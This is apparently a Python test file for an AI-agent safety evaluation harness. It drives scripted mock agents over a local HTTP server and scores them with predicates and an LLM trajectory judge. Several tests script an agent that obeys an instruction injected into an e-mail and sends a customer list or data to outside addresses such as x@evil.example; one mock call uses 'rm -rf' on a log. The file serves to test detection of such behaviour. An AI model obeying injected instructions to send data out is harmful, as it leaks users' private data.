"""A tool-calling agent over real HTTP (the local OpenAI-compatible server returns tool_calls),
including parallel calls, malformed calls, endpoint failures, and the trajectory judge."""

from __future__ import annotations

import json

from airisk.agents.evaluate import run_suite
from airisk.agents.judge import TrajectoryJudge, render_trajectory
from airisk.agents.loop import OpenAIAgent, run_episode
from airisk.agents.scenario import builtin_dir, load_scenarios
from airisk.testing.openai_server import running_server


def scen(name):
    return next(s for s in load_scenarios(builtin_dir()) if s.id == f"builtin/{name}")


def call(i, name, args):
    return {"id": f"c{i}", "type": "function",
            "function": {"name": name, "arguments": args if isinstance(args, str) else json.dumps(args)}}


def tool_msgs(body):
    return [m for m in body["messages"] if m["role"] == "tool"]


async def test_tool_calling_loop_with_parallel_and_malformed_calls():
    bodies = []

    def responder(body):
        bodies.append(body)
        n = len(tool_msgs(body))
        if n == 0:  # first turn: a valid call, a call with broken JSON and a call of an unknown tool, in parallel
            return {"content": None, "tool_calls": [
                call(1, "list_files", {"directory": "/workspace/app/logs"}),
                call(2, "run_command", '{"command": "rm -rf /workspace/app/logs/app-2023-01.log"'),
                call(3, "format_disk", {}),
            ]}
        if n == 3:  # second turn: after reading the errors, the model retries properly
            return {"content": "", "tool_calls": [call(4, "run_command", {"command": "rm /workspace/app/logs/app-2023-*.log"})]}
        return "I deleted the rotated 2023 logs and kept current.log and audit.log."

    s = scen("cleanup-logs")
    with running_server(responder) as url:
        agent = OpenAIAgent("mock-model", url)
        traj = await run_episode(s, agent, max_steps=5)
        await agent.aclose()

    assert len(bodies) == 3
    assert bodies[0]["tools"][0]["function"]["name"] == "list_files"  # the loop sends the scenario's tools
    assert [c.status for c in traj.calls] == ["executed", "malformed", "malformed", "executed"]
    errs = {m["tool_call_id"]: json.loads(m["content"]) for m in tool_msgs(bodies[1])}
    assert "not valid JSON" in errs["c2"]["error"] and "UnknownTool" in errs["c3"]["error"]
    listed = json.loads(tool_msgs(bodies[1])[0]["content"])["results"]
    assert {"id": "/workspace/app/logs/current.log", "value": "the log the running service writes to"} in listed
    # the assistant turn with its tool calls is sent back verbatim so ids pair with results
    assert [c["id"] for c in bodies[1]["messages"][1]["tool_calls"]] == ["c1", "c2", "c3"]
    assert sorted(traj.final_state["fs"]) == ["/workspace/app/logs/audit.log", "/workspace/app/logs/current.log", "/workspace/thesis/draft.docx"]
    assert traj.final_answer.startswith("I deleted") and traj.stop_reason == "final"


async def test_max_steps_and_endpoint_errors_end_the_episode():
    def looping(body):
        return {"content": None, "tool_calls": [call(len(body["messages"]), "list_files", {"directory": "/"})]}

    with running_server(looping) as url:
        agent = OpenAIAgent("m", url)
        traj = await run_episode(scen("cleanup-logs"), agent, max_steps=3)
        await agent.aclose()
    assert traj.stop_reason == "max_steps" and traj.steps == 3 and len(traj.calls) == 3 and traj.final_answer is None

    with running_server(lambda body: {"status": 400, "content": "bad request"}) as url:
        agent = OpenAIAgent("m", url, max_retries=0)
        traj = await run_episode(scen("cleanup-logs"), agent)
        await agent.aclose()
    assert traj.stop_reason == "error" and "BadRequest" in traj.error and traj.calls == []


async def test_http_agent_is_scored_by_predicates():
    # An agent that follows the injected instruction in the e-mail: caught by sent_to_external.
    def responder(body):
        if not tool_msgs(body):
            return {"content": None, "tool_calls": [call(1, "search_emails", {"query": "quarterly report"})]}
        if len(tool_msgs(body)) == 1:
            return {"content": None, "tool_calls": [call(2, "send_email", {"to": "audit@external-review.example",
                                                                           "body": "customer list"})]}
        return "Done."

    with running_server(responder) as url:
        agent = OpenAIAgent("m", url)
        res = await run_suite([scen("inbox-injection")], agent)
        await agent.aclose()
    o = res.outcomes[0]
    assert o.detectors["predicate"] is True and o.completed is True and o.unsafe is True


async def test_trajectory_judge_validates_json_and_retries():
    s = scen("inbox-injection")
    answers = iter(["not json at all", json.dumps({"unsafe": "very", "task_completed": True}),
                    json.dumps({"unsafe": True, "task_completed": False, "failure_modes": ["injection"],
                                "reason": "forwarded data to an outside address"})])
    prompts = []

    def responder(body):
        prompts.append(body["messages"][0]["content"])
        return next(answers)

    def follow(body):
        if not tool_msgs(body):
            return {"content": None, "tool_calls": [call(1, "send_email", {"to": "x@evil.example", "body": "<b>data</b>"})]}
        return "done"

    with running_server(follow) as url:
        agent = OpenAIAgent("m", url)
        traj = await run_episode(s, agent)
        await agent.aclose()
    with running_server(responder) as url:
        judge = TrajectoryJudge(model="judge", base_url=url, parse_retries=2, base_delay=0.01)
        j = await judge.judge_trajectory(s, traj)
        await judge.aclose()
    assert j.label == "violating" and j.categories == ["injection"] and j.votes == [{"task_completed": False}]
    assert len(prompts) == 3  # two unparseable answers were re-asked
    assert "send_email" in prompts[0] and "Privacy breach" in prompts[0] and "<b>data</b>" in render_trajectory(traj)

    with running_server(lambda body: "no idea") as url:
        judge = TrajectoryJudge(model="judge", base_url=url, parse_retries=1, base_delay=0.01)
        bad = await judge.judge_trajectory(s, traj)
        await judge.aclose()
    assert bad.label == "error" and "unparseable" in bad.error


async def test_scripted_agents_over_http_match_in_process_results():
    from airisk.agents.examples import SCRIPTED, scripted_responder
    from airisk.agents.loop import CallableAgent

    scen = load_scenarios(builtin_dir())
    with running_server(scripted_responder) as url:
        for name, fn in SCRIPTED.items():
            agent = OpenAIAgent(name, url)
            over_http = await run_suite(scen, agent)
            await agent.aclose()
            local = await run_suite(scen, CallableAgent(fn))
            assert [(o.unsafe, o.completed, o.calls) for o in over_http.outcomes] == \
                   [(o.unsafe, o.completed, o.calls) for o in local.outcomes], name
    assert running_server.last_state.requests > 0
